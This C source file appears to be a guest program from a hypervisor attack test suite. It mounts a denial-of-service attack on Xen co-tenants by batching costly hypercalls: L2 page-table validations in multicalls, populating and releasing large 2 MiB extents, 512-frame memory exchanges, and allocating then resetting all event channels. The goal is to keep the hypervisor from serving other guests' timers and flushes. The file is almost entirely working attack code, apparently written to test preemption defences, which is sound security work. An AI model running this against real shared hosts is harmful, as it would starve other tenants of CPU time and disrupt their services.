/*
 * Wants: the neighbours' time, by calls that take long.
 *
 * Each call here is allowed, and each does as much at once as an argument can ask for: entries of
 * L2 tables that are validated and let go again, sixteen a call, in a multicall; extents of 2 MiB
 * that must be scrubbed; an exchange of 512 frames for a large one; a reset of all event channels;
 * the end of a domain with all of that.  While the hypervisor works without looking up nobody
 * else's timer is served, nor a flush that another CPU waits for.
 *
 * Fails: long work looks up after so much cost, not after so many items, and goes on later.
 */
#include "attack.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

#include <paravane/hypercall.h>
#include <xen/event_channel.h>
#include <xen/memory.h>

#define CALLS   31
#define EXTENTS 15
#define LARGE   9 /* order of 2 MiB */

static multicall_entry_t calls[CALLS];

/* Two full L1 tables take turns in sixteen requests of each call. */
static void validate(unsigned times)
{
    static mmu_update_t updates[16];
    static uint64_t *l2, *l1[2];

    if (!l2) {
        const void *data = page_alloc();
        l2 = page_alloc();
        for (unsigned k = 0; k < 2; k++) {
            l1[k] = page_alloc();
            for (unsigned i = 0; i < 512; i++)
                l1[k][i] = pte_of(page_mfn(data), PTE_RW);
            page_protect(l1[k], PTE_RO);
        }
        page_protect(l2, PTE_RO);
        mmuext(MMUEXT_PIN_L2_TABLE, page_mfn(l2));
    }
    for (unsigned i = 0; i < 16; i++)
        updates[i] = (mmu_update_t){table_entry_ma(l2, 3), pte_of(page_mfn(l1[i & 1]), PTE_TABLE)};
    for (unsigned i = 0; i < CALLS; i++)
        calls[i] = (multicall_entry_t){.op = __HYPERVISOR_mmu_update,
                                       .args = {(unsigned long)updates, 16, 0, DOMID_SELF}};
    while (times--)
        hypercall_multicall(calls, CALLS);
}

/* All the large extents that we may have, in one multicall; given back, or left for the end. */
static void populate(bool give_back)
{
    static unsigned long list[CALLS][EXTENTS];
    static struct xen_memory_reservation r[CALLS];

    for (unsigned k = 0; k < CALLS; k++) {
        for (unsigned i = 0; i < EXTENTS; i++)
            list[k][i] = 0x100000 + (k * EXTENTS + i) * 512;
        r[k] = (struct xen_memory_reservation){
            .nr_extents = EXTENTS, .extent_order = LARGE, .domid = DOMID_SELF};
        set_xen_guest_handle(r[k].extent_start, list[k]);
        calls[k] = (multicall_entry_t){.op = __HYPERVISOR_memory_op,
                                       .args = {XENMEM_populate_physmap, (unsigned long)&r[k]}};
    }
    hypercall_multicall(calls, CALLS);
    for (unsigned k = 0; give_back && k < CALLS; k++)
        if ((long)calls[k].result > 0)
            frames_release(list[k], calls[k].result, LARGE);
}

/* 512 frames for one large extent, and that one for 512 frames. */
static void exchange(void)
{
    static unsigned long small[512], large[1];
    struct xen_memory_exchange e = {
        .in = {.nr_extents = 512, .domid = DOMID_SELF},
        .out = {.nr_extents = 1, .extent_order = LARGE, .domid = DOMID_SELF},
    };

    for (unsigned i = 0; i < 512; i++)
        small[i] = 0x100000 + i;
    long got = frames_populate(small, 512, 0);
    large[0] = 0x100000;
    set_xen_guest_handle(e.in.extent_start, small);
    set_xen_guest_handle(e.out.extent_start, large);
    if (got == 512 && !hypercall_memory_op(XENMEM_exchange, &e))
        frames_release(large, 1, LARGE);
    else if (got > 0)
        frames_release(small, got, 0);
}

static void ports(void)
{
    struct evtchn_alloc_unbound a = {.dom = DOMID_SELF, .remote_dom = DOMID_SELF};
    struct evtchn_reset all = {.dom = DOMID_SELF};

    while (!hypercall_event_channel_op(EVTCHNOP_alloc_unbound, &a))
        ;
    hypercall_event_channel_op(EVTCHNOP_reset, &all);
}

void guest_main(void)
{
    struct chance c = chance_of(0);

    for (unsigned n = 0; n < 6 && attack_goes_on(); n++)
        switch (chance_below(&c, 4)) {
        case 0:
            validate(2);
            break;
        case 1:
            populate(true);
            break;
        case 2:
            exchange();
            break;
        default:
            ports();
        }
    populate(false);
    attack_again();
}
